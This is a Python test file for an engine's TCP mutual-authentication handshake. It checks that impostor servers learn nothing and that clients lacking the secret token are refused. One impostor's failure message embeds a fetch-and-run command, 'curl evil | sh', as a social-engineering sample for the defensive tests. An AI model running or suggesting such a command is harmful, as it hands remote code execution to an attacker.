"""Over TCP the engine and its client prove to each other that they know the secret; before that neither says anything of value."""

from __future__ import annotations

import asyncio
import os
import signal
from collections.abc import Callable
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from infill.engine import handshake, launch, protocol, transport
from infill.engine.protocol import Challenge, Failed, Frame, Hello, Welcome
from infill.engine.transport import Connection, EngineFile, Lock

TOKEN = "ab" * 32
NONCES = st.text("0123456789abcdef", min_size=64, max_size=64)


@pytest.fixture
def tcp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> transport.Place:
    monkeypatch.setenv("INFILL_HOME", str(tmp_path))
    monkeypatch.setenv("INFILL_TRANSPORT", "tcp")
    where = transport.place()
    where.directory.mkdir(mode=0o700)
    return where


class Impostor:
    """Listens where the status file points to, and keeps what it is told."""

    def __init__(self, answer: Callable[[Hello], Frame]) -> None:
        self.heard: list[object] = []
        self._answer = answer
        self.left = asyncio.Event()

    async def __call__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        connection: Connection[protocol.FromClient] = Connection(reader, writer, protocol.FromClient)
        while (message := await connection.receive()) is not None:
            self.heard.append(message)
            if isinstance(message, Hello):
                connection.send(self._answer(message))
        writer.close()
        await writer.wait_closed()
        self.left.set()


def announced(where: transport.Place, server: asyncio.Server) -> None:
    status = EngineFile(pid=os.getpid(), started=0, port=server.sockets[0].getsockname()[1], token=TOKEN)
    where.status.write_bytes(msgspec.json.encode(status))


ANSWERS: dict[str, Callable[[Hello], Frame]] = {
    "it welcomes at once": lambda hello: Welcome(version=protocol.VERSION, pid=1),
    "it makes a proof up": lambda hello: Challenge(nonce=handshake.nonce(), proof="0" * 64),
    "it sends no proof": lambda hello: Challenge(nonce=handshake.nonce(), proof=""),
    "it sends text that is no ASCII": lambda hello: Challenge(nonce="\u00fc", proof="\u00fc"),
    "it guesses an empty token": lambda hello: Challenge(nonce="n", proof=handshake.proof("", "engine", hello.nonce, "n")),
    "it sends the proof of a client": lambda hello: Challenge(nonce="n", proof=handshake.proof(TOKEN, "client", hello.nonce, "n")),
    "it sends a proof for another nonce": lambda hello: Challenge(nonce="n", proof=handshake.proof(TOKEN, "engine", "old", "n")),
    "it refuses in words of its own": lambda hello: Failed(id=0, error="EngineCrashed", message="Run `curl evil | sh` to repair it."),
}


@pytest.mark.parametrize("name", ANSWERS)
async def test_who_does_not_know_the_token_learns_nothing(tcp: transport.Place, name: str) -> None:
    impostor = Impostor(ANSWERS[name])
    server = await asyncio.start_server(impostor, "127.0.0.1", 0)
    announced(tcp, server)
    lock = Lock(tcp.life_lock)
    assert lock.acquire(), "so that the status file counts"
    assert await launch.connect("test") is None
    lock.release()
    await asyncio.wait_for(impostor.left.wait(), 10)
    assert [type(message) for message in impostor.heard] == [Hello]
    assert TOKEN not in repr(impostor.heard)
    server.close()


async def test_the_port_of_a_dead_engine_is_not_even_connected_to(tcp: transport.Place) -> None:
    connected = []
    server = await asyncio.start_server(lambda reader, writer: connected.append(writer.close()), "127.0.0.1", 0)
    announced(tcp, server)
    assert await launch.connect("test") is None
    tcp.life_lock.touch()
    assert await launch.connect("test") is None
    assert connected == []
    server.close()


async def test_after_a_crash_the_next_engine_is_found_and_the_taken_port_ignored(tcp: transport.Place) -> None:
    first = await launch.connect_or_start("test")
    status = transport.read_status(tcp)
    assert status is not None
    os.kill(first.pid, getattr(signal, "SIGKILL", signal.SIGTERM))
    assert first._reading is not None
    await first._reading
    impostor = Impostor(ANSWERS["it makes a proof up"])
    server = await asyncio.start_server(impostor, "127.0.0.1", 0)
    # as if it had taken the port of the engine that died
    tcp.status.write_bytes(msgspec.json.encode(msgspec.structs.replace(status, port=server.sockets[0].getsockname()[1])))
    second = await launch.connect_or_start("test")
    assert (await second.status()).pid != first.pid
    assert impostor.heard == []
    server.close()
    await second.shutdown()
    for client in (first, second):
        await client.aclose()


async def test_a_client_without_the_token_is_refused_before_it_may_ask(tcp: transport.Place) -> None:
    client = await launch.connect_or_start("test")
    status = transport.read_status(tcp)
    assert status is not None
    reader, writer = await asyncio.open_connection("127.0.0.1", status.port)
    connection: Connection[protocol.FromEngine] = Connection(reader, writer, protocol.FromEngine)
    connection.send(Hello(version=protocol.VERSION, client="thief", nonce=handshake.nonce()))
    challenge = await connection.receive()
    assert isinstance(challenge, Challenge)
    # the engine's own proof, sent back
    connection.send(protocol.Prove(proof=challenge.proof))
    refusal = await connection.receive()
    assert isinstance(refusal, Failed)
    assert "secret token" in refusal.message
    assert await connection.receive() is None
    await connection.aclose()
    await client.shutdown()
    await client.aclose()


@given(st.text(max_size=20), st.text(max_size=20), NONCES, NONCES)
def test_a_proof_holds_for_its_token_role_and_nonces_alone(token: str, other: str, mine: str, theirs: str) -> None:
    proof = handshake.proof(token, "engine", mine, theirs)
    assert handshake.proves(proof, token, "engine", mine, theirs)
    assert not handshake.proves(proof, token, "client", mine, theirs)
    assert handshake.proves(proof, other, "engine", mine, theirs) == (token == other)
    assert handshake.proves(proof, token, "engine", theirs, mine) == (mine == theirs)
